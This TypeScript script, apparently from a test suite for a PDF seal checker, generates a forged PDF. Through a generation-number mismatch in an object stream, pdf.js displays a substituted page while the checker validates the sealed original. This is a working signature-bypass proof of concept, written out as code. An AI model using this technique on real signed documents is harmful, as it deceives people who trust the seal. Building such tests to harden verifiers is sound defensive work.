// a21: an update re-states page 1, value for value, in a new object stream whose own object is `A 1 obj` (the xref
// entry says generation 1), and holds, unlisted, page 1's number re-defined with /Contents <new>. sealcheck reads the
// object stream at the generation its entry names. pdf.js fetches an object stream as `A 0 R` (the generation of an
// object stream is 0, ISO 32000-1 §7.5.8.3), meets generation 1 (XRefEntryException), and on page 1 that makes it
// rebuild the table by scanning (checkFirstPage): the last `4 0 obj` wins.
//   npx tsx scripts/attack-s16/gen-objstm.ts <honest|gen>   REAL=0 for samples/valid (default: the real archive)
import { judge, latin, page1 } from "./lib.js";

const mode = process.argv[2] ?? "gen";
if (!["honest", "gen"].includes(mode)) throw new Error("usage: <honest|gen>");
const p = page1();
const header = `${p.num} 0\n`;
const text = `${header}<< ${[...p.kept, ...p.sealedTail].join(" ")} >>\n`;
const forged =
  `${p.num} 0 obj\n<< ${p.kept.join(" ")} /Contents ${p.content} 0 R ` +
  `/Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\nendobj\n`;
judge(
  `gen-objstm ${mode}`,
  p.write({ filter: "", first: header.length, data: Uint8Array.from(latin(text)), gen: mode === "gen" ? 1 : 0, unlisted: forged }, `gen-objstm-${mode}`),
);
